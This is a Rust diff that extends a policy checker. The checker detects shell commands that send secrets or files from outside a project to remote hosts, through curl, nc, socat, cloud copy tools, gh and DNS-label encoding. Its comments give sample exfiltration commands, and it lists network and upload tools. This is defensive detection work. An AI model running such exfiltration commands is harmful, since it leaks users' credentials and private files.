@@ -260,9 +260,12 @@ impl<'a> Policy<'a> {
                 cmds.extend(written);
                 // A private key or token written into a request (`curl -H "Authorization: token
                 // ghp_…"`, `-u`, `-d`, a here-document it sends) leaves with it.
+                // A token split across a host name's labels (`dig AKIAIOSF.ODNN7EXA.MPLE.x.io`)
+                // leaves in the resolver's queries: the labels are read joined as well.
                 if cmds.iter().any(|c| {
                     SENDERS.contains(&c.program)
-                        && (c.args().iter().any(|w| !w.dynamic && content::secret_shaped_or_encoded(&w.text)) || c.stdin_text.as_deref().is_some_and(content::secret_shaped_or_encoded))
+                        && (c.args().iter().any(|w| !w.dynamic && (content::secret_shaped_or_encoded(&w.text) || content::secret_in_host_labels(&w.text)))
+                            || c.stdin_text.as_deref().is_some_and(content::secret_shaped_or_encoded))
                 }) {
                     cmds.push(content::secret_text_subject(&action.summary()));
                 }
@@ -869,80 +872,224 @@ static SENDERS: schema::Names<128> = schema::Names::new(&[
 ]);
 
 /// Programs that send a file's bytes to another machine, with the files they take.
-static UPLOADERS: schema::Names<32> = schema::Names::new(&["curl", "wget", "http", "https", "xh", "xhs", "httpie", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "openssl"]);
+static UPLOADERS: schema::Names<128> = schema::Names::new(&[
+    "curl",
+    "wget",
+    "wget2",
+    "http",
+    "https",
+    "xh",
+    "xhs",
+    "httpie",
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.openbsd",
+    "nc.traditional",
+    "socat",
+    "telnet",
+    "scp",
+    "rsync",
+    "openssl",
+    "sftp",
+    "ssh",
+    "lftp",
+    "ftp",
+    "tftp",
+    "smbclient",
+    "mail",
+    "mailx",
+    "mutt",
+    "sendmail",
+    "croc",
+    "wormhole",
+    "ipfs",
+    "POST",
+    "PUT",
+    "lwp-request",
+]);
+
+/// Programs that copy files to a remote store or a machine: `aws s3 cp SRC s3://…`, `gsutil cp`,
+/// `rclone copy`, `kubectl cp`, `docker cp`; their sources are every path but the last, when
+/// the last is remote (`s3://…`, `remote:path`, `pod:/path`).
+static COPIERS: schema::Names<32> = schema::Names::new(&["aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "mc", "kubectl", "oc", "docker", "podman", "azcopy", "b2"]);
+
+/// Programs that publish files they are given on a hosting service (`gh gist create F`, `gh
+/// release upload T F`, `glab snippet create F`, `git send-email F`, `oras push R F`): any path
+/// outside the project among their arguments is sent.
+static PUBLISHERS: schema::Names<16> = schema::Names::new(&["gh", "glab", "oras", "crane", "helm", "git"]);
 
 /// The first file from outside the project (a temporary, home or system file; one ana cannot
 /// compute) that a command of `cmds` sends to a host other than this machine: curl's and wget's
 /// uploads and request bodies, httpie's `@FILE` items, a file redirected or piped into curl, nc
-/// or socat, scp's and rsync's local sources. Files in the project are the project's to send.
+/// or socat, scp's and rsync's local sources, cloud and cluster copies, files published by
+/// `gh`/`git send-email`; through a link in the project that leads out of it, a copy made earlier
+/// in the same command, or a substitution (`-d "$(cat /tmp/x)"`). Files in the project are the
+/// project's to send.
 fn sends_files_from_outside(cmds: &[Cmd], env: &Env) -> Option<String> {
     let outside = |e: &Effect| {
-        e.kind == EffectKind::Read
-            && !e.target.starts_with("/dev/")
-            && !e.target.starts_with("/proc/self/fd")
-            && classify(&e.target, e.dynamic, e.glob, env) & (class::INSIDE_PROJECT | class::PROJECT_ROOT) == 0
-            && !(e.dynamic && env.project.is_some_and(|p| e.within.as_deref().is_some_and(|d| d == p || path::is_within(d, p))))
-    };
-    for (i, c) in cmds.iter().enumerate() {
-        if !UPLOADERS.contains(&c.program) {
-            continue;
+        if e.kind != EffectKind::Read || e.target.starts_with("/dev/") || e.target.starts_with("/proc/self/fd") {
+            return false;
         }
+        if e.dynamic && env.project.is_some_and(|p| e.within.as_deref().is_some_and(|d| d == p || path::is_within(d, p))) {
+            return false;
+        }
+        let inside = |t: &str| classify(t, e.dynamic, e.glob, env) & (class::INSIDE_PROJECT | class::PROJECT_ROOT) != 0;
+        // A link in the project that leads out of it sends what it leads to.
+        !inside(&e.target) || (!e.dynamic && env.resolve.and_then(|r| r(&e.target, env.home)).is_some_and(|t| !inside(&t)))
+    };
+    // Files written by a command that read one from outside (`cp /tmp/x ./x`, `cat /tmp/x > y`):
+    // they hold what it read. And whether any command reads from outside at all, for words a
+    // substitution or a variable fills.
+    let mut tainted: Vec<String> = Vec::new();
+    let mut reads_outside = false;
+    for (i, c) in cmds.iter().enumerate() {
         let effects = effects::of_command(c, env.home);
-        let mut files: Vec<Effect> = match c.program.as_str() {
+        let read_out = effects.iter().any(&outside);
+        if read_out || effects.iter().any(|e| e.kind == EffectKind::Read && tainted.contains(&e.target)) {
+            tainted.extend(effects.iter().filter(|e| matches!(e.kind, EffectKind::Write | EffectKind::Edit) && !e.dynamic).map(|e| e.target.clone()));
+        }
+        if let Some(what) = sent_from_outside(cmds, i, c, effects, env, &outside, &tainted, reads_outside) {
+            return Some(what);
+        }
+        reads_outside |= read_out;
+    }
+    None
+}
+
+/// What `c` (the `i`th of `cmds`) sends from outside the project, if anything (see
+/// [`sends_files_from_outside`]).
+#[allow(clippy::too_many_arguments)]
+fn sent_from_outside(cmds: &[Cmd], i: usize, c: &Cmd, effects: Vec<Effect>, env: &Env, outside: &dyn Fn(&Effect) -> bool, tainted: &[String], reads_outside: bool) -> Option<String> {
+    let program = c.program.as_str();
+    let args = c.args();
+    let pos = || effects::positionals(args);
+    let read = |w: &shell::Word| Effect {
+        kind: EffectKind::Read,
+        target: if w.dynamic { w.text.clone() } else { path::normalize(&w.text, c.cwd.as_deref().unwrap_or("/"), env.home) },
+        dynamic: w.dynamic || (c.cwd.is_none() && !w.text.starts_with(['/', '~'])),
+        glob: w.glob,
+        recursive: true,
+        forced: false,
+        spelled: None,
+        within: None,
+    };
+    let mut files: Vec<Effect> = if UPLOADERS.contains(&c.program) {
+        match program {
             "scp" | "rsync" => {
-                let pos = effects::positionals(c.args());
+                let pos = pos();
                 // `SRC… HOST:DEST`: local sources sent to a remote destination.
                 if !pos.last().is_some_and(|w| remote_spec(&w.text)) {
-                    continue;
+                    return None;
                 }
-                pos[..pos.len() - 1]
-                    .iter()
-                    .filter(|w| !remote_spec(&w.text))
-                    .map(|w| Effect {
-                        kind: EffectKind::Read,
-                        target: if w.dynamic { w.text.clone() } else { path::normalize(&w.text, c.cwd.as_deref().unwrap_or("/"), env.home) },
-                        dynamic: w.dynamic || c.cwd.is_none() && !w.text.starts_with(['/', '~']),
-                        glob: w.glob,
-                        recursive: true,
-                        forced: false,
-                        spelled: None,
-                        within: None,
-                    })
-                    .collect()
+                pos[..pos.len() - 1].iter().filter(|w| !remote_spec(&w.text)).map(|w| read(w)).collect()
             }
-            "curl" | "wget" => {
-                if !effects.iter().any(|e| e.kind == EffectKind::Fetch && !loopback(url_host(&e.target))) {
-                    continue;
+            "curl" | "wget" | "wget2" => {
+                // Through a proxy, or with the name resolved elsewhere, a loopback address is not
+                // this machine; a configuration file may name the address itself.
+                let elsewhere = args.iter().any(|w| {
+                    let t = w.text.as_str();
+                    ["-x", "--proxy", "--preproxy", "--resolve", "--connect-to", "--socks", "-K", "--config", "-e", "--execute"]
+                        .iter()
+                        .any(|o| t == *o || (t.starts_with("--") && t.starts_with(o) && t.contains('=')) || (o.len() == 2 && t.starts_with(o) && t.len() > 2 && !o.starts_with("--")))
+                });
+                if !elsewhere && !effects.iter().any(|e| e.kind == EffectKind::Fetch && !loopback(url_host(&e.target))) {
+                    return None;
                 }
                 effects
             }
             // httpie takes its address without a scheme, `:3000` for this machine.
             "http" | "https" | "xh" | "xhs" | "httpie" => {
-                if c.args().iter().any(|w| w.text.starts_with(':') || loopback(url_host(&w.text)) || loopback(url_host(&format!("http://{}", w.text)))) {
-                    continue;
+                if args.iter().any(|w| w.text.starts_with(':') || loopback(url_host(&w.text)) || loopback(url_host(&format!("http://{}", w.text)))) {
+                    return None;
                 }
                 effects
             }
             // `openssl s_client -connect HOST:PORT` sends its stdin.
-            "openssl" if c.args().first().is_none_or(|w| w.text != "s_client") => continue,
-            _ => {
-                if c.args().iter().any(|w| loopback_word(&w.text)) {
-                    continue;
+            "openssl" if args.first().is_none_or(|w| w.text != "s_client") => return None,
+            // socat's bare path addresses are files too (`socat -u /tmp/x TCP:host:80`).
+            "socat" => {
+                if args.iter().any(|w| loopback_word(&w.text)) {
+                    return None;
                 }
-                effects
+                let mut files = effects;
+                files.extend(pos().into_iter().filter(|w| w.text.starts_with(['/', '.', '~']) && !w.text.contains(':')).map(&read));
+                files
             }
+            _ => {
+                if args.iter().any(|w| loopback_word(&w.text)) {
+                    return None;
+                }
+                // Every path among their words: `mail -a F`, `lftp -e "put F"`, `croc send F`.
+                // And on stdin (`echo "put /tmp/x" | sftp host`).
+                // (ssh and sftp use the key `-i` names without sending it; sftp's `-b FILE`
+                // holds its commands.)
+                let mut files = effects;
+                if matches!(program, "ssh" | "sftp") {
+                    files.extend(programs::option_values(&c.argv, &["-b"], &[]).iter().map(&read));
+                } else {
+                    files.extend(
+                        args.iter()
+                            .flat_map(|w| w.text.split_whitespace().filter(|t| t.starts_with(['/', '~'])).map(|t| shell::Word { text: t.to_owned(), ..w.clone() }).collect::<Vec<_>>())
+                            .map(|w| read(&w)),
+                    );
+                }
+                if let Some(text) = &c.stdin_text {
+                    files.extend(text.split_whitespace().filter(|t| t.starts_with(['/', '~'])).map(|t| read(&shell::Word::lit(t))));
+                }
+                files
+            }
+        }
+    } else if COPIERS.contains(&c.program) {
+        let pos = pos();
+        let remote = |t: &str| t.contains("://") || (t.contains(':') && !t.starts_with(['/', '.', '~', '-']));
+        match pos.last() {
+            Some(last) if pos.len() >= 2 && remote(&last.text) => pos[..pos.len() - 1].iter().filter(|w| !remote(&w.text) && (w.text.contains('/') || w.text.contains('.'))).map(|w| read(w)).collect(),
+            _ => {
+                // `--body F`, `--payload fileb://F`, `--from-file=F`, `-f F` (an upload's file).
+                let mut files = Vec::new();
+                for w in args {
+                    let t = w.text.split_once('=').map_or(w.text.as_str(), |(_, v)| v);
+                    let t = t.strip_prefix("fileb://").or_else(|| t.strip_prefix("file://")).or_else(|| t.strip_prefix('@')).unwrap_or(t);
+                    if t.starts_with(['/', '~']) && (w.text.contains("file") || args.iter().any(|o| o.text.contains("upload") || o.text == "put-object" || o.text == "--body")) {
+                        files.push(read(&shell::Word { text: t.to_owned(), ..w.clone() }));
+                    }
+                }
+                files
+            }
+        }
+    } else if PUBLISHERS.contains(&c.program) {
+        let sends = match program {
+            "git" => args.iter().any(|w| w.text == "send-email"),
+            "gh" | "glab" => args.iter().any(|w| matches!(w.text.as_str(), "gist" | "snippet" | "release" | "issue" | "pr" | "upload")),
+            _ => args.iter().any(|w| matches!(w.text.as_str(), "push" | "append")),
         };
-        // What the stages before it in a pipeline read flows into it.
-        let mut j = i;
-        let mut stage = c;
-        while stage.stdin_from.is_some() && j > 0 {
-            j -= 1;
-            stage = &cmds[j];
-            files.extend(effects::of_command(stage, env.home));
+        if !sends {
+            return None;
         }
-        if let Some(e) = files.iter().find(|e| outside(e)) {
-            return Some(format!("{} sends {}", c.program, e.target));
-        }
+        let mut files: Vec<Effect> = effects;
+        files.extend(args.iter().filter(|w| w.text.starts_with(['/', '~'])).map(&read));
+        files.extend(args.iter().filter_map(|w| w.text.strip_prefix("--body-file=").or_else(|| w.text.strip_prefix("--input=")).map(|f| read(&shell::Word { text: f.to_owned(), ..w.clone() }))));
+        files
+    } else {
+        return None;
+    };
+    // What the stages before it in a pipeline read flows into it.
+    let mut j = i;
+    let mut stage = c;
+    while stage.stdin_from.is_some() && j > 0 {
+        j -= 1;
+        stage = &cmds[j];
+        files.extend(effects::of_command(stage, env.home));
+    }
+    if let Some(e) = files.iter().find(|e| outside(e) || (e.kind == EffectKind::Read && tainted.contains(&e.target))) {
+        return Some(format!("{} sends {}", c.program, e.target));
+    }
+    // A word or stdin text a substitution or a variable fills, after a command that read a file
+    // from outside (`-d "$(cat /tmp/x)"`, `x=$(cat /tmp/x); curl -d "$x"`, `@<(cat /tmp/x)`).
+    let filled = args.iter().any(|w| w.dynamic && w.text.contains(['$', '`', '('])) || c.stdin_text.as_deref().is_some_and(|t| t.contains('$'));
+    if filled && (reads_outside || cmds[..i].iter().any(|p| effects::of_command(p, env.home).iter().any(outside))) {
+        return Some(format!("{} sends what a command read from outside the project", c.program));
     }
     None
 }
@@ -956,16 +1103,24 @@ fn remote_spec(w: &str) -> bool {
     !w.starts_with(['/', '.', '~']) && head.contains(':')
 }
 
-/// A host that is this machine.
+/// A host that is this machine: `localhost`, `*.localhost`, `::1`, an address in 127.0.0.0/8 in
+/// any spelling the resolver reads as one (`127.1`, `0x7f.1`), `0.0.0.0`. Not a name that only
+/// begins like one (`127.0.0.1.example.com`).
 fn loopback(host: &str) -> bool {
     let h = host.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
-    h == "localhost" || h.ends_with(".localhost") || h == "::1" || h.starts_with("127.") || h == "0.0.0.0" || h == "0"
+    let h = h.strip_suffix('.').unwrap_or(&h);
+    if h == "localhost" || h.ends_with(".localhost") || h == "::1" || h == "0" || h == "0.0.0.0" {
+        return true;
+    }
+    let dotted = canonical_ipv4(h).unwrap_or_else(|| h.to_owned());
+    let parts: Vec<&str> = dotted.split('.').collect();
+    parts.len() == 4 && parts[0] == "127" && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
 }
 
 /// A word of nc's or socat's that names this machine or a local socket.
 fn loopback_word(w: &str) -> bool {
     let l = w.to_ascii_lowercase();
-    l.split([':', ',', '=']).any(loopback) || l.starts_with("unix") || w == "-U" || w == "--unixsock"
+    l.split([':', ',', '=', '@']).any(loopback) || l.starts_with("unix") || w == "-U" || w == "--unixsock"
 }
 
 /// An IPv4 address as `inet_aton` reads it (what curl, wget and libc resolvers take): one to
